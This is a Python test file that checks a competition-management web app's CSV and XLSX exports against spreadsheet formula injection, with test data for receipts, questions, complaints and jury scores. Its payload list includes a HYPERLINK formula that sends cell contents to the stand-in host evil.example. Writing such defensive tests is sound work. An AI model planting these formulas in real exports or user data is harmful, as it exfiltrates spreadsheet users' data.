"""Every CSV and XLSX export, found from the URL map, neutralises text a spreadsheet would run as a
formula: user text starting with =, +, -, @, a tab or a carriage return comes out as text."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest

from compete.awards import services as award_services
from compete.core.exports import csv_bytes, xlsx_bytes
from compete.extensions import db
from tests.factories import make_participant
from tests.factories_awards import decide_and_notify, make_ranked_stage
from tests.factories_competitions import login_as, make_question
from tests.factories_jury import make_jury_stage
from tests.factories_submissions import make_setup, make_submitted

T0 = datetime(2026, 3, 1, 11, 0, tzinfo=UTC)
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klikk her")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _receipts(client, clock):
    clock.set(T0)
    setup = make_setup(opens_in=timedelta(days=-1), deadline_in=timedelta(days=14))
    for payload in PAYLOADS:
        user, organisation = make_participant()
        user.name, organisation.name = payload, payload
        make_submitted(setup, user=user, organisation=organisation)
    db.session.commit()
    login_as(client, setup.officer, setup.buyer)
    return f"/manage/competitions/{setup.competition.slug}/stages/1/receipts.csv"


def _questions(client, clock):
    clock.set(T0)
    setup = make_setup(opens_in=timedelta(days=-1), deadline_in=timedelta(days=14))
    for payload in PAYLOADS:
        make_question(setup.competition, setup.user, setup.organisation, payload)
    setup.organisation.name = PAYLOADS[0]
    db.session.commit()
    login_as(client, setup.officer, setup.buyer)
    return f"/manage/competitions/{setup.competition.slug}/questions.csv"


def _complaints(client, clock):
    world = make_ranked_stage(entries=4)
    decision = decide_and_notify(world)
    loser = world.entries[3]
    for payload in PAYLOADS:
        award_services.register_complaint(decision, loser.created_by, loser.organisation, payload)
    db.session.commit()
    login_as(client, world.setup.officer, world.setup.buyer)
    return f"/manage/competitions/{world.competition.slug}/complaints.csv"


def _jury(suffix):
    def arrange(client, clock):
        setup, _officer, _entries, seats = make_jury_stage(entries=1, jurors=len(PAYLOADS))
        for seat, payload in zip(seats, PAYLOADS, strict=True):
            seat.user.name = payload
        setup.stage.criteria[0].name = PAYLOADS[0]
        db.session.commit()
        login_as(client, setup.officer, setup.buyer)
        return f"/jury/stages/{setup.stage.id}/scores.{suffix}"

    return arrange


ARRANGE = {
    "submissions.receipt_log_csv": _receipts,
    "competitions.manage_questions_csv": _questions,
    "awards.complaints_csv": _complaints,
    "jury.scores_csv": _jury("csv"),
    "jury.scores_xlsx": _jury("xlsx"),
}


def export_endpoints(app) -> set[str]:
    return {rule.endpoint for rule in app.url_map.iter_rules() if rule.rule.endswith((".csv", ".xlsx"))}


def test_every_export_route_is_fed_a_formula(app):
    assert export_endpoints(app) == set(ARRANGE)


def cells(response) -> list[str]:
    if response.mimetype == "text/csv":
        text = response.get_data(as_text=True).lstrip("\ufeff")
        return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(response.get_data()))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                values.append("" if cell.value is None else str(cell.value))
    return values


@pytest.mark.parametrize("endpoint", sorted(ARRANGE))
def test_formulas_come_out_as_text(client, clock, endpoint):
    url = ARRANGE[endpoint](client, clock)

    response = client.get(url)

    assert response.status_code == 200
    found = cells(response)
    assert [c for c in found if c.startswith(DANGEROUS)] == []
    for payload in PAYLOADS:
        # Services may trim text (so "\t=1+1" is stored as "=1+1"); XLSX keeps a CR as a line feed.
        assert {"'" + payload, "'" + payload.strip(), "'" + payload.replace("\r", "\n")} & set(found), (payload, found)


def test_the_writer_guards_every_cell_in_both_formats():
    header = ["=navn", "tekst"]
    rows = [[payload, 7, -3] for payload in PAYLOADS]

    text = csv_bytes(header, rows, bom=True).decode("utf-8")
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(xlsx_bytes([("Ark", header, rows)]))).active

    assert text.startswith("\ufeff'=navn,tekst\r\n")
    assert [row[0] for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""))][1:] == [
        "'" + p for p in PAYLOADS
    ]
    assert [[c.value for c in row] for row in sheet.iter_rows(min_row=2)] == [
        ["'" + p.replace("\r", "\n"), 7, -3] for p in PAYLOADS
    ]
